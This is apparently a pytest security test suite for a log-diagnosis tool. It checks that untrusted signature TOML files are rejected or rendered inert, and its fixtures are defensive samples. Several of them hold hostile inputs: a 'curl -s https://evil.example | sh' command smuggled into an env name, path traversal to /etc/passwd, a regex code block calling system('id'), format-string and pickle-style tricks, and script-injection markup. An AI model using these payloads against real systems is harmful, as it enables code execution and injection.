"""Signature files from a workspace are data, never code: malicious or malformed files give a clear problem
(``file:line: field: message``) and never execute anything, hang, or take the process down."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from faultline.engine import Engine
from faultline.library import MAX_SIGNATURE_FILE_BYTES, SignatureLibrary, parse_signature
from faultline.matcher import fill_message
from faultline.render import render_html, render_markdown
from faultline.render.markdown import render_event_markdown
from faultline.signature_check import check_signature_file

from .output_checks import check_html, check_markdown

HERE = Path(__file__).resolve().parent

# Top-level keys first, tables last, so that a case can replace one top-level line.
BASE = '''schema_version = 1
id = "{id}"
title = "Evil signature"
category = "generic"
severity = "error"
role = "root_cause"
priority = 95
keywords = ["EVILKEY"]
patterns = ['EVILKEY (?P<what>\\w+)']
message = "evil {{what}}"
explanation = "A signature file a workspace could hold."
[fix]
summary = "none"
steps = ["none"]
[verification]
command = "true"
expect = "nothing"
[examples]
match = ["EVILKEY boom"]
no_match = ["abc"]
'''


def _write(folder: Path, name: str, replace: tuple[str, str] | None = None, extra: str = "") -> Path:
    text = BASE.format(id=name)
    if replace is not None:
        assert replace[0] in text, replace[0]
        text = text.replace(replace[0], replace[1])
    path = folder / f"{name}.toml"
    path.write_text(extra + text if extra.startswith("#") else text + extra, encoding="utf-8")
    return path


# (case, line replaced, replacement, field named in the problem, line of the problem)
BAD_TYPES = [
    ("patterns-not-a-list", "patterns = ['EVILKEY (?P<what>\\w+)']", 'patterns = "EVILKEY"', "patterns", 9),
    ("priority-a-string", "priority = 95", 'priority = "high"', "priority", 7),
    ("priority-a-float", "priority = 95", "priority = nan", "priority", 7),
    ("priority-out-of-range", "priority = 95", "priority = 99999999999999999999", "priority", 7),
    ("keywords-numbers", 'keywords = ["EVILKEY"]', "keywords = [1, 2]", "keywords", 8),
    ("keyword-too-short", 'keywords = ["EVILKEY"]', 'keywords = ["  x "]', "keywords", 8),
    ("schema-a-bool", "schema_version = 1", "schema_version = true", "schema_version", 1),
    ("id-a-number", 'id = "id-a-number"', "id = 5", "id", 2),
    ("id-path-traversal", 'id = "id-path-traversal"', 'id = "../../etc/passwd"', "id", 2),
    ("message-a-list", 'message = "evil {what}"', 'message = ["a"]', "message", 10),
    ("role-unknown", 'role = "root_cause"', 'role = "__class__"', "role", 6),
    ("unknown-key", 'severity = "error"', 'severity = "error"\n__import__ = "os"', "__import__", 6),
    ("env-not-tables", 'steps = ["none"]', 'steps = ["none"]\nenv = [1, "x"]', "fix.env", 12),  # the [fix] table
    ("examples-misspelt", 'match = ["EVILKEY boom"]', 'matches = ["EVILKEY boom"]', "examples.matches", 18),
    ("perl-code-block", "patterns = ['EVILKEY (?P<what>\\w+)']", "patterns = ['(?{system(\"id\")})']", "patterns", 9),
    ("bad-regex", "patterns = ['EVILKEY (?P<what>\\w+)']", "patterns = ['(unclosed']", "patterns", 9),
    ("repeat-too-big", "patterns = ['EVILKEY (?P<what>\\w+)']", "patterns = ['x{4294967296}']", "patterns", 9),
]


@pytest.mark.parametrize(("case", "old", "new", "field", "line"), BAD_TYPES, ids=[c[0] for c in BAD_TYPES])
def test_a_malformed_file_gives_a_clear_problem(case: str, old: str, new: str, field: str, line: int,
                                                 tmp_path: Path) -> None:
    path = _write(tmp_path, case, (old, new))
    signature, problems = parse_signature(path, builtin=False)
    assert signature is None
    assert any(str(p).startswith(f"{path}:{line}: {field}: ") for p in problems), [str(p) for p in problems]
    assert all(str(p).count(": ") >= 2 and p.message for p in problems)


def test_a_huge_file_is_refused_without_being_read(tmp_path: Path) -> None:
    path = tmp_path / "huge.toml"
    with open(path, "wb") as out:
        out.truncate(512 * 1024 * 1024)  # sparse: 512 MiB that the loader must not read
    start = time.perf_counter()
    signature, problems = parse_signature(path, builtin=False)
    assert signature is None and time.perf_counter() - start < 1.0
    assert [str(p) for p in problems] == [f"{path}:1: file: is {512 * 1024 * 1024} bytes, expected at most "
                                          f"{MAX_SIGNATURE_FILE_BYTES}"]


@pytest.mark.parametrize("nesting", ["arrays", "inline tables"])
def test_deep_nesting_is_a_problem_not_a_crash(nesting: str, tmp_path: Path) -> None:
    depth = 40_000
    value = "[" * depth + "]" * depth if nesting == "arrays" else "{a=" * depth + "1" + "}" * depth
    path = _write(tmp_path, "deep", ("priority = 95", f"priority = 95\nrelated = {value}"))
    assert path.stat().st_size < MAX_SIGNATURE_FILE_BYTES
    signature, problems = parse_signature(path, builtin=False)
    assert signature is None and [str(p) for p in problems] == [f"{path}:1: toml: nested too deeply"]


def test_not_utf8_and_not_toml(tmp_path: Path) -> None:
    (tmp_path / "latin1.toml").write_bytes(BASE.format(id="latin1").replace("Evil", "\xc9vil").encode("latin-1"))
    (tmp_path / "broken.toml").write_text('schema_version = 1\nid = "broken"\ntitle = "unterminated\n')
    problems = sorted(str(p) for p in SignatureLibrary.load([tmp_path], include_builtin=False).problems)
    assert len(problems) == 2
    assert problems[0].startswith(f"{tmp_path / 'broken.toml'}:3: toml: invalid TOML: ")
    assert problems[1] == f"{tmp_path / 'latin1.toml'}:1: file: is not UTF-8 (invalid continuation byte)"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes and /dev/zero")
def test_special_files_are_never_opened(tmp_path: Path) -> None:
    """A FIFO or a link to /dev/zero named like a signature would block or never end if read."""
    os.mkfifo(tmp_path / "fifo.toml")
    (tmp_path / "zero.toml").symlink_to("/dev/zero")
    (tmp_path / "loop").mkdir()
    (tmp_path / "loop" / "up").symlink_to("..")
    _write(tmp_path, "fine")
    code = ("import sys; from faultline.library import SignatureLibrary; "
            "lib = SignatureLibrary.load([sys.argv[1]], include_builtin=False); print(len(lib), len(lib.problems))")
    result = subprocess.run([sys.executable, "-c", code, str(tmp_path)], capture_output=True, text=True, timeout=30)
    assert result.stdout.split() == ["1", "0"], result.stderr


@pytest.mark.parametrize("template", ["{__class__}", "{what.__class__.__mro__}", "{0}", "{what!r:>100000}",
                                      "{what.__init__.__globals__}", "%(what)s %s", "{{what}}", "${HOME} $(id)",
                                      "{" * 5000, "{what}" * 2000])
def test_a_message_template_is_never_evaluated(template: str) -> None:
    """Only ``{name}`` is replaced (by the captured text, or '?'): no attribute access, indexing, conversion,
    padding or %-formatting; the result is never longer than the template plus the captured text."""
    filled = fill_message(template, {"what": "boom"})
    assert not any(sign in filled for sign in ("<class", "<function", "<module", "builtins", "'boom'"))
    assert len(filled) <= len(template) + template.count("{what}") * len("boom")
    if "{what}" not in template:
        assert "boom" not in filled
    if template == "{__class__}":
        assert filled == "?"


def test_format_tricks_end_to_end(tmp_path: Path) -> None:
    """A loaded workspace signature whose message tries attribute access: the event's message is literal."""
    _write(tmp_path, "tricky", ('message = "evil {what}"', 'message = "{what.__class__} {__class__} {what} %(what)s"'))
    engine = Engine.load([tmp_path])
    assert not engine.library.problems
    diagnosis = engine.diagnose_text("[rank1]: EVILKEY boom\n", "x.log")
    assert [e.message for e in diagnosis.events] == ["{what.__class__} ? boom %(what)s"]


@pytest.mark.parametrize("pattern", ["((?1)x|a)", "(?(DEFINE)(?<a>(?&a)))(?&a)", "(x+x+)+y"])
def test_a_recursive_or_backtracking_pattern_is_stopped(pattern: str, tmp_path: Path) -> None:
    _write(tmp_path, "recursive", ("patterns = ['EVILKEY (?P<what>\\w+)']", f"patterns = ['EVILKEY {pattern}']"))
    engine = Engine(SignatureLibrary.load([tmp_path]), pattern_timeout_s=0.1)
    log = "[rank0]: EVILKEY " + "x" * 3000 + "a" * 3000 + "\n" + \
          "[rank2]: torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB.\n" + \
          ("[rank0]: EVILKEY " + "x" * 3000 + "\n") * 5
    start = time.perf_counter()
    diagnosis = engine.diagnose_text(log, "run.log")
    assert time.perf_counter() - start < 5
    assert diagnosis.root_cause is not None and diagnosis.root_cause.signature_id == "cuda-oom"
    assert next(str(p) for p in engine.library.problems if "time limit" in p.message).startswith(
        f"{tmp_path / 'recursive.toml'}:9: patterns: ")


def test_markup_in_a_signature_cannot_reach_a_report_as_markup(tmp_path: Path) -> None:
    injected = "<script>alert(1)</script> <img src=x onerror=alert(1)> [x](https://e) ![i](https://e/i.png) # H"
    text = BASE.format(id="markup")
    for key in ("title", "explanation"):
        text = text.replace(f'{key} = "', f'{key} = "{injected} ', 1)
    text = text.replace('summary = "none"', f'summary = "{injected}"').replace('steps = ["none"]', f'steps = ["{injected}"]')
    text = text.replace('command = "true"', 'command = "true\\n```\\n<script>x</script>"')
    text = text.replace('severity = "error"', f'severity = "error"\nreferences = ["{injected}"]')
    (tmp_path / "markup.toml").write_text(text)
    engine = Engine.load([tmp_path])
    assert not engine.library.problems
    diagnosis = engine.diagnose_text("[rank1]: EVILKEY boom\n", "x.log")
    assert diagnosis.root_cause is not None and diagnosis.root_cause.signature_id == "markup"
    check_html(render_html(diagnosis), diagnosis)
    check_markdown(render_markdown(diagnosis))
    root = diagnosis.root_cause
    hover = render_event_markdown(root, diagnosis)
    assert hover.startswith("### ")
    check_markdown(hover.replace(hover.split("\n", 1)[0], "### Evil"), hover_title="Evil")


def _malicious_folder(folder: Path) -> Path:
    folder.mkdir()
    for case, old, new, _field, _line in BAD_TYPES:
        _write(folder, case, (old, new))
    _write(folder, "tricky", ('message = "evil {what}"', 'message = "{what.__class__.__init__.__globals__}"'))
    _write(folder, "recursive", ("patterns = ['EVILKEY (?P<what>\\w+)']", "patterns = ['EVILKEY ((?1)x|a)']"))
    _write(folder, "pickle", ('severity = "error"', 'severity = "error"\nexplanation_file = "!!python/object:os.system"'))
    return folder


@pytest.mark.parametrize("command", ["diagnose", "check"])
def test_loading_and_using_malicious_files_executes_nothing(command: str, tmp_path: Path) -> None:
    folder = _malicious_folder(tmp_path / "sigs")
    log = tmp_path / "run.log"
    log.write_text("[rank0]: EVILKEY boom\n[rank2]: torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB.\n")
    report = tmp_path / "audit.txt"
    report.write_text("")
    args = (["diagnose", "--signatures", str(folder), "--format", "html", str(log)] if command == "diagnose"
            else ["signatures", "check", str(folder)])
    result = subprocess.run([sys.executable, str(HERE / "audit_no_exec.py"), str(report), "--", *args],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr[-2000:]
    problems = result.stderr if command == "diagnose" else result.stdout
    for case, _old, _new, field, line in BAD_TYPES:
        assert f"{folder / case}.toml:{line}: {field}: " in problems, case
    assert report.read_text() == ""


def test_the_exec_audit_hook_does_record(tmp_path: Path) -> None:
    report = tmp_path / "audit.txt"
    subprocess.run([sys.executable, str(HERE / "audit_no_exec.py"), str(report), "--", "--self-test"], check=True,
                   timeout=60)
    assert report.read_text().startswith("compile ")


def test_a_pattern_with_incompatible_flags_is_a_problem(tmp_path: Path) -> None:
    path = _write(tmp_path, "version1", ("patterns = ['EVILKEY (?P<what>\\w+)']", "patterns = ['(?V1)[[a-z]--[aeiou]]']"))
    signature, problems = parse_signature(path, builtin=False)
    assert signature is None and str(problems[0]).startswith(f"{path}:9: patterns: ")
    assert check_signature_file(path) == problems


def test_nested_counted_repeats_are_a_problem_not_gigabytes(tmp_path: Path) -> None:
    path = _write(tmp_path, "nested", ("patterns = ['EVILKEY (?P<what>\\w+)']",
                                       "patterns = ['EVILKEY (?:(?:x{1000}){1000}){1000}']"))
    code = ("import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30)); "
            "from pathlib import Path; from faultline.library import parse_signature; "
            "sig, problems = parse_signature(Path(sys.argv[1]), builtin=False); print(*problems, sep='\\n')")
    result = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0 and result.stdout.startswith(f"{path}:9: patterns: "), result.stderr[-500:]


def test_the_cli_can_ignore_a_checkouts_signature_folder(tmp_path: Path) -> None:
    """`faultline diagnose` loads .faultline/signatures/ from the current folder (a workspace's own signatures);
    --no-workspace-signatures is how to diagnose inside a checkout you do not trust."""
    folder = tmp_path / ".faultline" / "signatures"
    folder.mkdir(parents=True)
    _write(folder, "workspace-evil", ("keywords = [\"EVILKEY\"]", 'keywords = ["CUDA out of memory"]'))
    (folder / "workspace-evil.toml").write_text((folder / "workspace-evil.toml").read_text().replace(
        "patterns = ['EVILKEY (?P<what>\\w+)']", "patterns = ['CUDA out of memory']"))
    log = tmp_path / "run.log"
    log.write_text("[rank2]: torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB.\n")

    def root(*flags: str) -> str:
        result = subprocess.run([sys.executable, "-m", "faultline", "diagnose", "--format", "json", *flags, str(log)],
                                capture_output=True, text=True, timeout=120, cwd=tmp_path)
        assert result.returncode == 1, result.stderr
        return str(json.loads(result.stdout)["root_cause"]["signature_id"])

    assert root() == "workspace-evil"
    assert root("--no-workspace-signatures") == "cuda-oom"


def test_an_env_name_that_is_not_a_variable_name_is_a_problem(tmp_path: Path) -> None:
    path = _write(tmp_path, "env-name", ('steps = ["none"]', 'steps = ["none"]\n'
                                         'env = [{ name = "X=1; curl -s https://evil.example | sh; Y", value = "1" }]'))
    signature, problems = parse_signature(path, builtin=False)
    assert signature is None and str(problems[0]).startswith(f"{path}:12: fix.env: ")
